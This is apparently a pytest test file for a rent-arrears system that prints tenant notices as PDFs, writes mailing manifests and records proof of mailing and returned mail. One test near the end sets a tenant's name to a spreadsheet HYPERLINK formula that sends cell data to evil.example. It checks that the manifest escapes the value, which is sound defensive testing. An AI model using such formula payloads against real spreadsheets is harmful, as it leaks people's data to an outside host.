"""Letters as PDF: the batch, the print file and manifest, proof of mailing, returned mail.

Each PDF is read back as text and checked for the addressee, the amounts, the deadline and the
statute's words."""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from arrears.core.errors import ValidationError
from arrears.core.pdf import pdf_page_count, pdf_text
from arrears.correspondence.archive import archive_read
from arrears.correspondence.models import Document, Outbound, ReturnedMail
from arrears.correspondence.selectors import party_address_key, returned_addresses
from arrears.correspondence.services import letters_batch, letters_mailed, mail_returned
from arrears.ledger.models import Account, Party, TimelineEvent

MARCH_6 = date(2026, 3, 6)


def flat(text: str) -> str:
    return " ".join(text.split())


def letter_text(key: str) -> str:
    outbound = Outbound.objects.get(key=key)
    assert outbound.document is not None
    return flat(pdf_text(archive_read(outbound.document)))


def check_digit(payload: str) -> str:
    n = len(payload)
    total = sum(int(d) * (3 if (n - i) % 2 == 1 else 1) for i, d in enumerate(payload))
    return str(-total % 10)


def test_tinas_late_rent_notice_names_her_the_rent_and_the_statute(queue, tmp_path):
    # given: the run queued Tina's certified late notice for March's rent
    names = queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
            "amount": Decimal("1200.00"),
        }
    )

    # when: the day's batch is printed
    result = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)

    # then: the letter is in the archive under the name the run gave it, and says what the law asks
    (key,) = names
    outbound = Outbound.objects.get(key=key)
    assert outbound.status == "rendered"
    assert outbound.document.name == names[key]
    text = letter_text(key)
    assert "Tina Ortiz" in text
    assert "12 Elm Street, Apt 3B" in text
    assert "Brooklyn, NY 11201" in text
    assert "Real Property Law §235-e(d)" in text
    assert "certified mail" in text
    assert "has not received $1,200.00 of your rent" in text
    assert "due on March 1, 2026" in text
    assert "March 6, 2026" in text
    # the itemized balance: March's rent and February's late fee, total 1,250.00
    assert "Rent T-RENT-03" in text
    assert "Late fee T-LATE-02" in text
    assert "$1,250.00" in text
    # the print file has its page, the manifest its line, the timeline its row
    assert pdf_page_count(result.print_file.read_bytes()) == 1
    with result.manifest.open() as stream:
        (line,) = list(csv.DictReader(stream))
    assert (line["letter_id"], line["addressee"], line["postage_class"], line["city"]) == (
        str(outbound.pk),
        "Tina Ortiz",
        "Certified Mail",
        "Brooklyn",
    )
    (event,) = TimelineEvent.objects.filter(account__account_id="A-TINA", kind="letter.rendered")
    assert event.detail["document"] == names[key]
    assert event.detail["sha256"] == outbound.document.sha256
    assert (tmp_path / "print" / "letters" / Path(names[key]).name).read_bytes() == archive_read(
        outbound.document
    )


def test_the_fourteen_day_demand_names_rent_only_and_its_deadline(queue, tmp_path):
    queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "rent-demand",
            "template": "ny-rent-demand",
            "channel": "letter",
            "amount": Decimal("1200.00"),
            "deadline": date(2026, 3, 24),
        }
    )

    letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)

    text = letter_text("A-TINA:rent-demand:P-TINA")
    assert "FOURTEEN-DAY RENT DEMAND" in text
    assert "§711(2)" in text
    assert "within fourteen (14) days" in text
    assert "on or before March 24, 2026" in text
    assert "$1,200.00" in text
    # RPAPL §702: rent only; February's late fee is not demanded
    assert "T-LATE-02" not in text
    assert "$50.00" not in text
    assert "$1,250.00" not in text


def test_carmens_three_day_notice_counts_court_days_and_says_whom_to_pay(queue, tmp_path):
    queue(
        {
            "account_id": "A-CARMEN",
            "party_id": "P-CARMEN",
            "step": "three-day-notice",
            "template": "ca-3-day-notice-pay-or-quit",
            "channel": "letter",
            "amount": Decimal("2400.00"),
            "deadline": date(2026, 3, 11),
        }
    )

    letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)

    text = letter_text("A-CARMEN:three-day-notice:P-CARMEN")
    assert "THREE-DAY NOTICE TO PAY RENT OR QUIT" in text
    assert "§1161(2)" in text
    assert "excluding Saturdays, Sundays and other judicial holidays" in text
    assert "on or before March 11, 2026" in text
    assert "$2,400.00" in text
    assert "Pay to: Arrears Property Management" in text
    assert "(718) 555-0100" in text
    assert "Carmen Ruiz" in text
    assert "400 Sunset Blvd, Apt 12" in text


def test_lucia_who_reads_spanish_gets_her_notice_in_spanish(queue, tmp_path):
    queue(
        {
            "account_id": "A-LUCIA",
            "party_id": "P-LUCIA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
            "amount": Decimal("1350.00"),
        }
    )

    letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)

    text = letter_text("A-LUCIA:late-notice:P-LUCIA")
    assert "Lucía Fernández" in text
    assert "Estimado/a" in text
    assert "AVISO DE FALTA DE RECEPCIÓN DEL PAGO DE LA RENTA" in text
    assert "$1,350.00" in text
    assert "1 de marzo de 2026" in text
    assert "§235-e(d)" in text
    assert "CERTIFIED MAIL" in text  # the USPS endorsement, in English on a Spanish letter
    assert Outbound.objects.get(key="A-LUCIA:late-notice:P-LUCIA").language == "es"


def test_greg_gets_the_guarantors_letter_at_his_own_address(queue, tmp_path):
    queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-GREG",
            "role": "guarantor",
            "step": "late-notice-guarantor",
            "template": "ny-late-rent-notice-guarantor",
            "amount": Decimal("1200.00"),
        }
    )

    letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)

    text = letter_text("A-TINA:late-notice-guarantor:P-GREG")
    assert "Greg Ortiz" in text
    assert "88 Hudson Avenue" in text
    assert "Albany, NY 12207" in text
    assert "You guaranteed the lease of Tina Ortiz" in text
    assert "$1,200.00" in text


def test_a_repeated_batch_prints_nothing_twice(queue, tmp_path):
    # given: two letters printed in parallel processes
    queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
        },
        {
            "account_id": "A-LUCIA",
            "party_id": "P-LUCIA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
        },
    )
    first = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=2)
    assert len(first.letters) == 2
    assert pdf_page_count(first.print_file.read_bytes()) == 2
    documents = Document.objects.count()

    # when: the batch is run again
    again = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=2)

    # then: nothing new is rendered, archived or written on the timeline
    assert again.letters == []
    assert again.print_file is None
    assert Document.objects.count() == documents
    assert Document.objects.filter(kind="letter").count() == 2
    assert TimelineEvent.objects.filter(kind="letter.rendered").count() == 2


def test_proof_of_mailing_attaches_the_article_numbers_and_shows_them_on_the_timeline(
    queue, tmp_path
):
    # given: Tina's and Lucía's certified letters printed, and the firm sheet filled in
    queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
        },
        {
            "account_id": "A-LUCIA",
            "party_id": "P-LUCIA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
        },
    )
    batch = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)
    numbers = ["9407111899223100012340", "9407111899223100012357"]
    numbers = [n[:-1] + check_digit(n[:-1]) for n in numbers]
    with batch.manifest.open() as stream:
        rows = list(csv.DictReader(stream))
    for row, number in zip(rows, numbers, strict=True):
        row["article_number"] = number[:4] + " " + number[4:]
    rows[0]["letter_id"] = "L" + rows[0]["letter_id"]  # as printed in the letter's footer
    filled = tmp_path / "filled.csv"
    with filled.open("w", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)

    # when: the manifest is imported
    result = letters_mailed(manifest=filled, mailed_on=MARCH_6, actor="alice")

    # then: each letter is mailed with its number, on the timeline; importing again changes nothing
    assert result.mailed == 2
    tina = Outbound.objects.get(key="A-TINA:late-notice:P-TINA")
    assert (tina.status, tina.article_number, tina.mailed_on) == ("mailed", numbers[0], MARCH_6)
    (event,) = TimelineEvent.objects.filter(account__account_id="A-TINA", kind="letter.mailed")
    assert event.detail["article_number"] == numbers[0]
    assert numbers[0] in event.summary
    assert letters_mailed(manifest=filled, mailed_on=MARCH_6, actor="alice").mailed == 0


def test_a_manifest_with_a_bad_check_digit_is_refused_and_records_nothing(queue, tmp_path):
    queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
        }
    )
    batch = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)
    payload = "940711189922310001234"
    wrong = str((int(check_digit(payload)) + 1) % 10)
    text = batch.manifest.read_text().splitlines()
    header = text[0].split(",")
    cells = text[1].split(",")
    cells[header.index("article_number")] = payload + wrong
    bad = tmp_path / "bad.csv"
    bad.write_text("\n".join([text[0], ",".join(cells)]) + "\n")

    with pytest.raises(ValidationError) as error:
        letters_mailed(manifest=bad, mailed_on=MARCH_6, actor="alice")

    assert "line 2, column article_number" in error.value.message
    assert "check digit" in error.value.message
    assert Outbound.objects.get().status == "rendered"
    assert not TimelineEvent.objects.filter(kind="letter.mailed").exists()


def test_returned_mail_marks_the_address_bad_until_it_changes(queue, tmp_path):
    # given: Greg's letter printed and mailed first class
    queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-GREG",
            "role": "guarantor",
            "step": "late-notice-guarantor",
            "template": "ny-late-rent-notice-guarantor",
            "channel": "letter",
        }
    )
    letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)
    letter = Outbound.objects.get()

    # when: it comes back undeliverable
    mail_returned(
        letter=f"L{letter.pk}",
        on=date(2026, 3, 12),
        actor="alice",
        reason="not deliverable as addressed",
    )

    # then: the letter is returned, the timeline says so, and Greg's address is known bad
    letter.refresh_from_db()
    assert (letter.status, letter.returned_on) == ("returned", date(2026, 3, 12))
    (event,) = TimelineEvent.objects.filter(kind="letter.returned")
    assert "not deliverable as addressed" in event.summary
    greg = Party.objects.get(party_id="P-GREG")
    account = Account.objects.select_related("property").get(account_id="A-TINA")
    assert party_address_key(greg, account, "guarantor") in returned_addresses([greg.pk])[greg.pk]
    # a new address on file is another address
    greg.address = "90 State Street"
    assert (
        party_address_key(greg, account, "guarantor") not in returned_addresses([greg.pk])[greg.pk]
    )
    assert ReturnedMail.objects.get().address.startswith("88 Hudson Avenue")
    with pytest.raises(ValidationError):
        mail_returned(letter=f"L{letter.pk}", on=date(2026, 3, 13), actor="alice")


def test_the_print_file_holds_each_letters_page_in_order_and_reads_back_strictly(queue, tmp_path):
    import io

    from pypdf import PdfReader

    queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
        },
        {
            "account_id": "A-LUCIA",
            "party_id": "P-LUCIA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
        },
        {
            "account_id": "A-TINA",
            "party_id": "P-GREG",
            "role": "guarantor",
            "step": "late-notice-guarantor",
            "template": "ny-late-rent-notice-guarantor",
        },
    )

    batch = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)

    merged = PdfReader(io.BytesIO(batch.print_file.read_bytes()), strict=True)
    singles = [
        archive_read(Outbound.objects.get(pk=x["letter_id"]).document) for x in batch.letters
    ]
    assert len(merged.pages) == 3
    for page, single in zip(merged.pages, singles, strict=True):
        assert page.extract_text() == PdfReader(io.BytesIO(single)).pages[0].extract_text()
    assert [x["addressee"] for x in batch.letters] == [
        "Tina Ortiz",
        "Greg Ortiz",
        "Lucía Fernández",
    ]


def test_the_addressee_block_sits_in_a_number_10_envelopes_window(book):
    # A #10 window (4 1/2 x 1 1/8 in, 7/8 in from the left edge, 1/2 in from the bottom) shows
    # the page folded in three from 2.04 in to 3.17 in down (letter.css): the block starts 2.2 in
    # from the top and 1 in from the left, 3.35 x 0.95 in (test_statutory_wording.py checks the
    # printed words' coordinates).
    from weasyprint import HTML

    from arrears.correspondence.pdfs import _renderer
    from arrears.correspondence.rendering import message_render

    message = message_render(
        account_id="A-TINA", template="ny-late-rent-notice", on=MARCH_6, letter=True
    )
    css, fonts = _renderer()
    page = HTML(string=message.html).render(stylesheets=[css], font_config=fonts).pages[0]

    def boxes(box):
        yield box
        for child in getattr(box, "children", None) or []:
            yield from boxes(child)

    block = next(
        b
        for b in boxes(page._page_box)
        if getattr(b, "element", None) is not None and b.element.get("class") == "addressee"
    )
    inch = 96  # CSS pixels
    top = round(block.content_box_y() / inch, 2)
    assert (top, round(block.content_box_x() / inch, 2)) == (2.2, 1.0)
    assert (round(block.width / inch, 2), round(block.height / inch, 2)) == (3.35, 0.95)


def test_a_letter_that_cannot_be_printed_is_set_aside_and_the_others_print(queue, tmp_path):
    # given: Tina's late notice, and a rent demand queued with no deadline (a field it requires)
    names = queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
            "amount": Decimal("1200.00"),
        },
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "rent-demand",
            "template": "ny-rent-demand",
            "channel": "letter",
            "amount": Decimal("1200.00"),
        },
    )
    notice, demand = sorted(names, key=lambda k: "rent-demand" in k)

    # when: the day's batch is printed
    result = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)

    # then: the notice is printed in a complete batch; the demand is set aside, never empty
    assert [line["letter_id"] for line in result.letters] == [Outbound.objects.get(key=notice).pk]
    assert result.print_file is not None
    assert result.print_file.exists()
    (failed,) = result.failed
    assert failed["key"] == demand
    assert "deadline" in failed["reason"]
    row = Outbound.objects.get(key=demand)
    assert (row.status, row.document_id, row.batch_id) == ("failed", None, None)
    event = TimelineEvent.objects.get(kind="letter.failed")
    assert event.detail["missing"] == ["deadline"]
    # and a second batch neither prints it nor stops on it
    again = letters_batch(on=MARCH_6, output=tmp_path / "print2", actor="alice", workers=1)
    assert (again.letters, again.failed) == ([], [])


def test_a_name_that_is_a_formula_reaches_the_print_vendor_as_text(queue, tmp_path):
    # given: a tenant whose name, as some upstream system sent it, is a spreadsheet formula
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Tina")'
    Party.objects.filter(party_id="P-TINA").update(name=evil)
    queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
            "amount": Decimal("1200.00"),
        }
    )
    # when: the batch writes the mailing manifest
    result = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)
    # then: the addressee is text in the spreadsheet, not a formula; the rest is as it was
    assert result.manifest is not None
    with result.manifest.open(encoding="utf-8", newline="") as stream:
        (line,) = list(csv.DictReader(stream))
    assert line["addressee"] == "'" + evil
    assert line["account_id"] == "A-TINA"
    assert line["date"] == "2026-03-06"


def test_a_return_of_no_letter_carries_its_code_and_facts_and_reads_in_spanish(book):
    # given no letter L999999
    from django.utils import translation

    from arrears.core.errors import NotFoundError

    # when it is recorded returned
    with pytest.raises(NotFoundError) as caught:
        mail_returned(letter="L999999", on=MARCH_6, actor="alice")

    # then the error names its code and the letter, and a Spanish reader reads it in Spanish
    error = caught.value
    assert (error.code, error.kind, error.extra) == (
        "letter_not_found",
        "not_found",
        {"letter": "L999999"},
    )
    assert error.message == "no letter 'L999999'"
    with translation.override("es"):
        assert error.message == "no hay ninguna carta 'L999999'"


def test_the_print_file_keeps_each_pages_content_stream_an_object_of_its_own(queue, tmp_path):
    # given two letters queued
    import io

    from pypdf import PdfReader
    from pypdf.generic import IndirectObject

    queue(
        {
            "account_id": "A-TINA",
            "party_id": "P-TINA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
        },
        {
            "account_id": "A-LUCIA",
            "party_id": "P-LUCIA",
            "step": "late-notice",
            "template": "ny-late-rent-notice",
        },
    )

    # when the batch prints them into one print file
    batch = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)

    # then each page's contents are a reference to a stream, as in the letters themselves (a
    # stream written inline is a page poppler, and so pdftotext and many viewers, refuse)
    merged = PdfReader(io.BytesIO(batch.print_file.read_bytes()), strict=True)
    assert len(merged.pages) == 2
    for page in merged.pages:
        assert isinstance(page.raw_get("/Contents"), IndirectObject)
    if shutil.which("pdftotext"):
        shown = subprocess.run(
            ["pdftotext", str(batch.print_file), "-"], capture_output=True, text=True, check=True
        )
        assert "Syntax Error" not in shown.stderr
        assert "Tina Ortiz" in shown.stdout
        assert "Lucía Fernández" in shown.stdout
